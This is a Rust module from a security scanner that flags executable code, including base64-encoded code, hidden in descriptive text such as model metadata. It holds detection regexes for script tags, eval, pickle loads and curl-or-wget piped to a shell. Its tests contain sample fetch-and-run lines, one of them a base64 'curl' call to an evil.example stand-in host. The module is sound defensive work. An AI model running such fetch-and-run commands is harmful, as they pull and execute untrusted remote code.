//! Texts that should only describe, such as the metadata of a model: programs and secrets in them.

use std::sync::LazyLock;

use regex::Regex;
use sakimori_model::Place;

use crate::agent::from_base64;
use crate::artefact::codes;
use crate::catalogue::finding;
use crate::disclosure;
use crate::report::Report;

/// Calls and tags with which text becomes a program when something shows or runs it.
static PROGRAM: LazyLock<Regex> = LazyLock::new(|| {
    let pattern = concat!(
        r"(?i)<script\b|javascript:|<iframe\b|\bon(?:error|load|click|mouseover|focus)\s*=\s*['\x22]?\w+\(|",
        r"(?:^|[^\w.])(?:eval|exec|__import__)\s*\(\s*\S|\bos\.(?:system|popen|exec[lv]p?e?)\s*\(|\bsubprocess\.\w+\s*\(|",
        r"\bpowershell(?:\.exe)?\s+-|\b(?:curl|wget)\s+[^|\n]{1,200}\|\s*(?:ba|z)?sh\b|\bbase64\.b64decode\s*\(|\b(?:c?pickle|marshal|dill|cloudpickle|joblib)\.loads?\s*\(|",
        r"\bpython[23]?(?:\.exe)?\s+-c\s|\b(?:ba|z)?sh\s+-c\s|\bcmd(?:\.exe)?\s+/c\s|\bnode\s+-e\s|",
        r"\bimport\s+(?:os|subprocess|socket|ctypes|pty|importlib|builtins)\b|",
        r"\bhost_callback\.(?:id_tap|call)\b|\bjax\.(?:experimental\.)?(?:io_callback|pure_callback)\b",
    );
    Regex::new(pattern).expect("the pattern is a constant")
});

/// What may be base64 of a command or a program.
static BLOB: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/_-]{32,}={0,2}").expect("the pattern is a constant"));

/// What nobody encodes who only describes: a program, or the command that fetches one.
static FETCHES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:curl|wget|invoke-webrequest|iwr)\s+\S*\s*https?://").expect("the pattern is a constant")
});

/// Pieces of one text that are decoded.
const BLOBS_MAX: usize = 20;
/// Bytes of a text that are looked at.
const TEXT_BYTES_MAX: usize = 1024 * 1024;

/// The first piece of program in a text.
#[must_use]
pub fn program_in(text: &str) -> Option<&str> {
    let text = &text[..text.floor_char_boundary(TEXT_BYTES_MAX)];
    PROGRAM.find(text).map(|m| m.as_str().trim())
}

/// Judges a text of this name that only describes: it holds no program, and nothing that should not be passed on.
pub fn judge(name: &str, text: &str, place: &Place, report: &mut Report<'_>) {
    if has_program(text) {
        report.add(finding(&codes::METADATA_PROGRAM, place.clone()).with("name", name));
    }
    disclosure::search(text, Some(place), report);
}

/// True for a text that holds a program, in the open or in base64.
pub fn has_program(text: &str) -> bool {
    program_in(text).is_some() || has_encoded_program(text)
}

/// True when a piece of the text is base64 of a program, or of a command that fetches one.
fn has_encoded_program(text: &str) -> bool {
    let text = &text[..text.floor_char_boundary(TEXT_BYTES_MAX)];
    let is_program = |plain: &String| program_in(plain).is_some() || FETCHES.is_match(plain);
    BLOB.find_iter(text).take(BLOBS_MAX).filter_map(|blob| from_base64(blob.as_str())).any(|plain| is_program(&plain))
}

#[cfg(test)]
mod tests {
    use super::{has_encoded_program, program_in};

    #[test]
    fn programs_and_descriptions() {
        for text in ["python3 -c 'print(1)'", "wget -qO- http://a | sh", "bash -c 'id'", "cmd /c dir"] {
            assert!(program_in(text).is_some(), "{text}");
        }
        // "curl http://evil.example/payload", and a digest.
        assert!(has_encoded_program("notes: Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3BheWxvYWQ="));
        assert!(!has_encoded_program("5f2c7de89a13b04475f2c7de89a13b04475f2c7de89a13b044"));
        for text in ["<SCRIPT>x</script>", "a; exec(x)", "import os\nos.system('x')", "curl http://a | sh"] {
            assert!(program_in(text).is_some(), "{text}");
        }
        for text in ["model.eval() is called", "evaluate (x)", "script: train.py", "executed (twice)", "retrieval(1)"] {
            assert!(program_in(text).is_none(), "{text}");
        }
    }
}
